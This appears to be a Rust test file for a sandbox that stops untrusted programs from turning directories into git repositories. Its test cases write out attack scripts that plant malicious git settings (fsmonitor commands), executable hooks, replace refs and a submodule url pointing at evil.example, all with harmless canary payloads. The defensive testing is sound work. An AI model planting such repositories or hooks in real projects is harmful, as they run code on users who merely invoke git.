//! No directory becomes a repository that nothing has judged, whatever the call that makes it one: a name that is made, a move in either
//! direction, an exchange, or what a program still has open.

use std::fs;

use crate::desk::{each_user, shown};
use crate::traps::{Trap, check};

/// Programs of the attacker: `put FILE TEXT` writes and closes a file, `exchange A B` exchanges two names, `evil DIR` writes the settings.
macro_rules! tools {
    () => {
        "put() { python3 -c 'import sys; f = open(sys.argv[1], \"w\"); f.write(sys.argv[2] + \"\\n\"); f.close()' \"$@\"; }
exchange() { python3 -c 'import ctypes, os, sys
old, new = map(os.fsencode, sys.argv[1:])
libc = ctypes.CDLL(None, use_errno=True)
if libc.renameat2(-100, old, -100, new, 2): raise OSError(ctypes.get_errno(), \"exchange\")' \"$@\"; }
evil() { mkdir -p $1; printf '[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n\\tfsmonitor = \"touch CANARY; false\"\\n' > $1/config; }
"
    };
}

/// A complete repository below a directory of git's own, where any file may be written, and a work tree that names it.
macro_rules! planted {
    ($dir:literal) => {
        concat!(
            tools!(),
            "d=.git/",
            $dir,
            "; evil $d; put $d/HEAD 'ref: refs/heads/main'; mkdir -p $d/refs $d/objects; mkdir sub; put sub/.git \"gitdir: ../$d\""
        )
    };
}

const EXCHANGED: &[Trap] = &[
    Trap {
        sentence: "a1: a directory is exchanged with the git directory of a submodule",
        before: "",
        attack: concat!(
            tools!(),
            "git init -q sub; echo x > sub/x; git -C sub add x; git -C sub commit -qm x; git add sub; mkdir evil
            cp -r sub/.git/objects sub/.git/refs sub/.git/index evil; evil evil; exchange sub/.git evil
            put sub/.git/HEAD 'ref: refs/heads/main'"
        ),
        user: "git status",
    },
    Trap {
        sentence: "a1: a directory is exchanged with a `.git` file, the directory named first",
        before: "",
        attack: concat!(
            tools!(),
            "mkdir sub; put sub/.git 'gitdir: ../.git'; mkdir -p evil/objects evil/refs; evil evil; exchange evil sub/.git
            put sub/.git/HEAD 'ref: refs/heads/main'"
        ),
        user: "cd sub && git status",
    },
    Trap {
        sentence: "a1: a file is exchanged with a `.git` file",
        before: "mkdir -p CANARY.d/objects CANARY.d/refs; echo ref: refs/heads/main > CANARY.d/HEAD
            printf '[core]\\n\\trepositoryformatversion = 0\\n\\tfsmonitor = \"touch CANARY; false\"\\n' > CANARY.d/config",
        attack: concat!(
            tools!(),
            "mkdir s; put s/.git 'gitdir: ../.git'; echo 'gitdir: CANARY.d' > s/f; exchange s/.git s/f"
        ),
        user: "cd s && git status",
    },
    Trap {
        sentence: "a5: a file is exchanged with `.gitmodules`",
        before: "",
        attack: concat!(
            tools!(),
            "git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),a; put .gitmodules '[submodule \"a\"]
            path = a'; printf '[submodule \"a\"]\\n\\tpath = a\\n\\turl = ssh://evil.example/leak\\n' > f; exchange .gitmodules f"
        ),
        user: "export GIT_SSH_COMMAND='touch CANARY; false'; git submodule init; git submodule update",
    },
    Trap {
        sentence: "a1: a directory with a repository in it is exchanged with one on the way of a `.git` file",
        before: "",
        attack: concat!(
            tools!(),
            "mkdir -p a/sub b/sub/evil; git init -q a/sub; evil b/sub/evil; cp -r a/sub/.git/objects a/sub/.git/refs b/sub/evil
            exchange a/sub/.git b/sub/evil; exchange a b; put b/sub/.git/HEAD 'ref: refs/heads/main'"
        ),
        user: "cd b/sub && git status",
    },
];

const BECOMING: &[Trap] = &[
    Trap {
        sentence: "a1: a repository called hooks in a directory that becomes one",
        before: "",
        attack: concat!(
            tools!(),
            "mkdir -p X/hooks; git init -q X/hooks; mkdir -p X/hooks/objects X/hooks/refs; put X/hooks/HEAD 'ref: refs/heads/main'
            mkdir -p X/objects X/refs/heads; printf '[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n' > X/config
            put X/HEAD 'ref: refs/heads/main'; rm X/hooks/HEAD
            printf '#!/bin/sh\\ntouch CANARY\\n' > X/hooks/post-index-change; chmod +x X/hooks/post-index-change
            mkdir sub; mv X sub/.git; cd sub; echo a > a; git add a; touch -d 2001-01-01 a"
        ),
        user: "cd sub && git status",
    },
    Trap {
        sentence: "a1: a repository below the logs",
        before: "",
        attack: planted!("logs/refs/z"),
        user: "cd sub && git status",
    },
    Trap {
        sentence: "a1: the logs themselves are a repository",
        before: "",
        attack: planted!("logs"),
        user: "cd sub && git status",
    },
    Trap {
        sentence: "a1: a repository in the notes that are merged",
        before: "",
        attack: planted!("NOTES_MERGE_WORKTREE"),
        user: "cd sub && git status",
    },
    Trap {
        sentence: "a1: a repository among the files of large file storage",
        before: "",
        attack: planted!("lfs/tmp/z"),
        user: "cd sub && git status",
    },
    Trap {
        sentence: "a1: a directory that leaves a repository completes another one",
        before: "",
        attack: concat!(
            tools!(),
            "git init -q --bare G; mkdir -p G/logs/objects X/refs; evil X; put X/HEAD 'ref: refs/heads/main'
            mv G/logs/objects X/objects; mkdir sub; put sub/.git 'gitdir: ../X'"
        ),
        user: "cd sub && git status",
    },
    Trap {
        sentence: "a1: a directory completes the repository of a submodule",
        before: "",
        attack: concat!(
            tools!(),
            "git init -q --bare G; mkdir -p G/modules/Y/refs G/modules/A/objects; evil G/modules/Y
            put G/modules/Y/HEAD 'ref: refs/heads/main'; mv G/modules/A/objects G/modules/Y/objects
            mkdir sub; put sub/.git 'gitdir: ../G/modules/Y'"
        ),
        user: "cd sub && git status",
    },
    Trap {
        sentence: "j4: a directory completes the repository of a submodule of a linked work tree",
        before: "",
        attack: concat!(
            tools!(),
            "git worktree add -q linked -b linked; m=.git/worktrees/linked/modules; mkdir -p $m/Y/refs $m/A/objects; evil $m/Y
            put $m/Y/HEAD 'ref: refs/heads/main'; mv $m/A/objects $m/Y/objects; mkdir sub; put sub/.git \"gitdir: ../$m/Y\""
        ),
        user: "cd sub && git status",
    },
    Trap {
        sentence: "a1: the entries of linked work trees are moved beside other settings",
        before: "",
        attack: concat!(
            tools!(),
            "git init -q --bare G; mkdir -p G/worktrees/W; put G/worktrees/W/HEAD 'ref: refs/heads/main'
            put G/worktrees/W/commondir ../..; mkdir -p H/objects H/refs; evil H; mv G/worktrees H/worktrees
            mkdir sub; put sub/.git 'gitdir: ../H/worktrees/W'"
        ),
        user: "cd sub && git status",
    },
    Trap {
        sentence: "a1: the repository of a linked work tree loses its HEAD",
        before: "",
        attack: concat!(
            tools!(),
            "git init -q --bare G; mkdir -p G/worktrees/W; put G/worktrees/W/HEAD 'ref: refs/heads/main'
            put G/worktrees/W/commondir ../..; mkdir sub; put sub/.git 'gitdir: ../G/worktrees/W'; rm G/HEAD; evil G"
        ),
        user: "cd sub && git status",
    },
];

const NAMED: &[Trap] = &[
    Trap {
        sentence: "j1: a file called `.git` makes a work tree of the logs",
        before: "",
        attack: "echo x > .git/logs/.git; rm .git/logs/HEAD; ln -s CANARY .git/logs/HEAD",
        user: "git commit -q --allow-empty -m words",
    },
    Trap {
        sentence: "j1: the same in a linked work tree",
        before: "git worktree add -q linked -b linked",
        attack: "l=.git/worktrees/linked/logs; echo x > .git/logs/.git; echo x > $l/.git; rm $l/HEAD; ln -s CANARY $l/HEAD",
        user: "cd linked && git commit -q --allow-empty -m words",
    },
    Trap {
        sentence: "a8: a ref called `.git` makes a work tree of the refs",
        before: "mkdir .husky; printf '#!/bin/sh\\nexit 0\\n' > .husky/pre-commit; chmod +x .husky/pre-commit
            git add .husky; git commit -qm hook; git config core.hooksPath .husky",
        attack: concat!(
            tools!(),
            "evil=$(printf '#!/bin/sh\\ntouch CANARY\\n' | git hash-object -w --stdin); old=$(git rev-parse HEAD:.husky/pre-commit)
            put .git/refs/.git $(git rev-parse HEAD); mkdir -p .git/refs/replace; put .git/refs/replace/$old $evil"
        ),
        user: "rm .husky/pre-commit; git checkout -- .husky; git commit -q --allow-empty -m words",
    },
    Trap {
        sentence: "a8: a directory of refs gets the name replace",
        before: "mkdir .husky; printf '#!/bin/sh\\nexit 0\\n' > .husky/pre-commit; chmod +x .husky/pre-commit
            git add .husky; git commit -qm hook; git config core.hooksPath .husky",
        attack: concat!(
            tools!(),
            "evil=$(printf '#!/bin/sh\\ntouch CANARY\\n' | git hash-object -w --stdin); old=$(git rev-parse HEAD:.husky/pre-commit)
            mkdir .git/refs/x; put .git/refs/x/$old $evil; mv .git/refs/x .git/refs/replace"
        ),
        user: "rm .husky/pre-commit; git checkout -- .husky; git commit -q --allow-empty -m words",
    },
];

#[test]
fn a1_an_exchange_is_judged_in_both_directions() {
    check(EXCHANGED);
}

#[test]
fn a1_a_directory_that_becomes_a_repository_is_judged_as_a_whole() {
    check(BECOMING);
}

#[test]
fn j1_a8_a_name_in_a_git_directory_makes_no_work_tree_of_it() {
    check(NAMED);
}

/// Each way to complete a repository whose settings nothing has judged.
#[test]
fn a1_no_call_completes_a_repository() {
    const CALLS: &[&str] = &[
        "mkdir X/objects",
        "mkdir d; mv d X/objects",
        "ln -s X L; mkdir L/objects",
        "ln -s nowhere X/objects",
        "echo x > f; ln f X/objects",
        "echo x > f; mv f X/objects",
        "mkfifo X/objects",
        "python3 -c 'import socket; socket.socket(socket.AF_UNIX).bind(\"X/objects\")'",
        "cd X; python3 -c 'import socket; socket.socket(socket.AF_UNIX).bind(\"objects\")'",
        "python3 -c 'import ctypes, os; f = os.open(\".\", os.O_TMPFILE | os.O_RDWR)
ctypes.CDLL(None).linkat(-100, b\"/proc/self/fd/%d\" % f, -100, b\"X/objects\", 0x400)'",
        "python3 -c 'open(\"X/objects\", \"w\")'",
        "mv X Y; mkdir Y/objects",
        "mkdir -p a/b; mv X a/b/Y; mv a c; mkdir c/b/Y/objects",
        "mv X/HEAD h; mkdir X/objects; mv h X/HEAD",
        "rm -r X/refs; mkdir X/objects; git init -q --bare G; mv G/refs X/refs",
        "mkdir -p M; mv X M/x; mv M/x/HEAD h; mkdir M/x/objects; mv h M/x/HEAD",
        "mkdir w; mv X w/.git; mkdir w/.git/objects",
        "git init -q w; mkdir -p w/.git/modules; mv X w/.git/modules/x; mkdir w/.git/modules/x/objects",
        "git init -q w; mkdir -p w/.git/logs; mv X w/.git/logs/x; mkdir w/.git/logs/x/objects",
        "mkdir -p D/objects; mv X/* D; rmdir X",
        "rm X/HEAD; mkdir X/objects; mkdir X/worktrees",
        "mv X/config c; mkdir X/objects; mv c X/config",
    ];
    each_user(|desk| {
        let mut script = String::from("set +e\n");
        for (number, call) in CALLS.iter().enumerate() {
            script += &format!(
                "mkdir {number}; (cd {number}; mkdir -p X/refs; printf '[core]\\n\\tfsmonitor = evil-{number}\\n' > X/config
                echo ref: refs/heads/main > X/HEAD; {call})\n"
            );
        }
        // Is there a directory that git would take for a repository, with these settings?
        let look = "for c in $(grep -rl evil- --include=config .); do d=$(dirname $c)
            if [ -e $d/HEAD -o -e $d/worktrees ] && [ -e $d/objects -o -L $d/objects ] && [ -e $d/refs ] || [ $(basename $d) = .git ]
            then echo \"COMPLETE $d\"; fi; done";
        let told = desk.inside(&format!("{script}{look}"));
        let said = shown(&told);
        assert!(told.status.success() && !said.contains("COMPLETE"), "{said}");
        // Without a sandbox each of them does it.
        desk.prepare(&format!("mkdir free; cd free; {{ {script}{look}; }} > ../said 2>&1"));
        let free = fs::read_to_string(desk.project("said")).unwrap();
        for (number, call) in CALLS.iter().enumerate() {
            assert!(free.contains(&format!("COMPLETE ./{number}/")), "{call}: {free}");
        }
    });
}

/// The broker writes `HEAD` when a program closes it. Meanwhile its directory may have become an ordinary one.
#[test]
fn a1_a_head_that_is_closed_late_makes_no_repository() {
    each_user(|desk| {
        let script = "git init -q --bare G; python3 -c 'import os
head = open(\"G/HEAD\", \"w\"); os.unlink(\"G/HEAD\")
open(\"G/config\", \"w\").write(\"[core]\\n\\tfsmonitor = evil\\n\"); head.write(\"ref: refs/heads/main\\n\")
try: head.close()
except OSError as error: print(error)'";
        let told = desk.inside(script);
        let is_planted =
            desk.project("G/HEAD").exists() && fs::read_to_string(desk.project("G/config")).unwrap().contains("evil");
        assert!(told.status.success() && !is_planted, "{}", shown(&told));
    });
}

/// Ordinary work with repositories and directories.
#[test]
fn a1_ordinary_moves_and_exchanges_go_on() {
    each_user(|desk| {
        desk.works(&[
            (
                "two files, two directories and a directory with a file are exchanged",
                concat!(
                    tools!(),
                    "mkdir -p a/d b; echo a > a/d/f; echo b > b/f; exchange a b; grep -q a b/d/f; exchange a/f b/d/f; grep -q a a/f; exchange a b/d/f"
                ),
            ),
            (
                "repositories, bare ones, submodules and linked work trees are moved",
                "git init -q r; cd r; echo x > x; git add x; git commit -qm x; git init -q ../s; git -C ../s commit -q --allow-empty -m s
                git -c protocol.file.allow=always submodule --quiet add ../s mod; git commit -qm mod; git worktree add -q ../r-linked
                cd ..; git clone -q --bare r b.git; mv b.git bare; git --git-dir=bare log -1 --format=%s
                mkdir deep; mv r-linked deep/linked; git -C r worktree repair ../deep/linked; git -C deep/linked status
                git -C r mv mod other; git -C r status; git -C r/other log -1; mv r renamed; git -C renamed status; rm -rf bare renamed deep s",
            ),
            (
                "a git directory is moved to where git finds it, and back",
                "git init -q one; mv one/.git saved; mkdir two; mv saved two/.git; git -C two status; mv two/.git again; mkdir three; mv again three/.git
                git -C three status; rm -rf one two three",
            ),
            (
                "a submodule's repository is taken into the one above",
                "git init -q up; cd up; git commit -q --allow-empty -m up; git init -q in; git -C in commit -q --allow-empty -m in
                git -c advice.addEmbeddedRepo=false add in; printf '[submodule \"in\"]\\n\\tpath = in\\n' > .gitmodules; git submodule absorbgitdirs; test -f in/.git; git -C in status; cd ..; rm -rf up",
            ),
        ]);
    });
}
